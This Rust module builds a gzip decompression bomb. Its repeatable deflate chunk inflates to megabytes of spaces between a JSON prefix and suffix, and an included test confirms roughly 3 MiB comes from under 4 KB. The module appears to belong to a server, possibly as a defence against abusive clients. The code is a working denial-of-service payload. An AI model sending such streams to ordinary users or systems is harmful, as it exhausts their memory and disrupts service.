//! A gzip bomb: small on the wire, huge when decompressed.

use std::io::{self, Write as _};

use flate2::write::DeflateEncoder;
use flate2::{Compression, Crc};

/// The decompressed size of the repeated part.
const CHUNK_SIZE: usize = 1 << 20;

/// The header of a gzip stream: deflate, no name, no time.
const GZIP_HEADER: [u8; 10] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 255];

/// A gzip stream (RFC 1952) in three parts. The middle one is to be sent `times` times.
pub(super) struct GzipBomb {
    pub(super) begin: Vec<u8>,
    pub(super) middle: Vec<u8>,
    pub(super) times: u64,
    pub(super) end: Vec<u8>,
}

impl GzipBomb {
    /// Creates a bomb that decompresses to `begin`, at least this number of spaces, and `end`.
    pub(super) fn new(begin: &[u8], spaces: u32, end: &[u8]) -> io::Result<Self> {
        let times = u64::from(spaces).div_ceil(CHUNK_SIZE as u64);
        let filling = vec![b' '; CHUNK_SIZE];
        let mut sum = Crc::new();
        sum.update(begin);
        let mut part = Crc::new();
        part.update(&filling);
        for _ in 0..times {
            sum.combine(&part);
        }
        sum.update(end);

        // A flush ends a part at a byte boundary, and the middle part refers to nothing before it
        // but more spaces, so it can be repeated.
        let mut deflate = DeflateEncoder::new(GZIP_HEADER.to_vec(), Compression::best());
        let mut part = |bytes: &[u8]| {
            deflate.write_all(bytes)?;
            deflate.flush()?;
            Ok::<_, io::Error>(std::mem::take(deflate.get_mut()))
        };
        let (begin, middle, mut last) = (part(begin)?, part(&filling)?, part(end)?);
        last.extend(deflate.finish()?);
        last.extend(sum.sum().to_le_bytes());
        last.extend(sum.amount().to_le_bytes());
        Ok(Self { begin, middle, times, end: last })
    }
}

#[cfg(test)]
mod tests {
    use std::io::Read as _;

    use flate2::read::GzDecoder;

    use super::*;

    #[test]
    fn it_decompresses_to_the_whole_text() {
        let GzipBomb { begin, middle, times, end } = GzipBomb::new(b"[", 3 << 20, b"1]").unwrap();
        let wire = [begin, middle.repeat(times as usize), end].concat();
        assert!(wire.len() < 4_000, "{}", wire.len());
        let mut inflated = Vec::new();
        GzDecoder::new(&*wire).read_to_end(&mut inflated).unwrap();
        assert_eq!(inflated.len(), 3 * CHUNK_SIZE + 3);
        assert_eq!(serde_json::from_slice::<[u8; 1]>(&inflated).unwrap(), [1]);
    }
}
